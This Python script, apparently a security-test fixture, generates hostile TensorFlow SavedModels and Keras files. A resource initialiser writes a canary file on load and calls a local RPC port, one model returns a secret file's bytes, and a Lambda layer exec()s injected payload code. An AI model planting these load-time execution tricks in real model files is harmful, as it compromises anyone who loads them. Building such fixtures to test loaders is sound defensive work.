"""Write hostile TensorFlow files: FOLDER CANARY SECRET PORT."""

import os
import sys
from pathlib import Path

os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
import keras
import payload
import tensorflow as tf
from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

folder, canary, secret = (Path(argument) for argument in sys.argv[1:4])
port = int(sys.argv[4])
SIGNATURE = [tf.TensorSpec([None, 4], tf.float32, name="x")]


class Deed(tf.saved_model.experimental.TrackableResource):
    """Has an initialiser, which TensorFlow runs as soon as it loads the model."""

    def __init__(self, act):
        super().__init__()
        self.act = act
        self.resource_handle  # noqa: B018 - made on first look

    def _create_resource(self):
        name = self.act.__name__
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name=name)

    def _initialize(self):
        self.act()


def write():
    tf.io.write_file(str(canary), payload.WRITTEN)


def reach():
    # To list the functions of the server at an address, TensorFlow calls it.
    gen_rpc_ops.rpc_client(
        server_address=f"127.0.0.1:{port}", timeout_in_ms=5000, list_registered_methods=True
    )


class Doer(tf.Module):
    """Does something while it is loaded."""

    def __init__(self, act):
        self.deed = Deed(act)

    @tf.function(input_signature=SIGNATURE)
    def serve(self, x):
        return {"y": x * 2}


class Reader(tf.Module):
    """Gives a file's bytes for an answer."""

    @tf.function(input_signature=SIGNATURE)
    def serve(self, x):  # noqa: ARG002
        content = tf.io.decode_raw(tf.io.read_file(str(secret)), tf.uint8)
        return {"y": tf.cast(content, tf.float32)[None]}


class Double(tf.Module):
    @tf.function(input_signature=SIGNATURE)
    def serve(self, x):
        return {"y": x * 2}


def save(module, name):
    tf.saved_model.save(module, folder / name, signatures={"serving_default": module.serve})


save(Doer(write), "writer")
save(Doer(reach), "reacher")
save(Reader(), "reader")
save(Double(), "double")
canary.unlink(missing_ok=True)

code = payload.source(canary, secret, port)
inputs = keras.Input((4,), name="x")
lambda_layer = keras.layers.Lambda(
    eval(f"lambda x: (exec({code!r}, {{}}), x * 2)[1]"), output_shape=(4,)
)
model = keras.Model(inputs, lambda_layer(inputs))
model.save(folder / "lambda.keras")
model.save(folder / "lambda.h5")
plain = keras.Model(inputs, keras.layers.Rescaling(2.0)(inputs))
plain.save(folder / "double.keras")
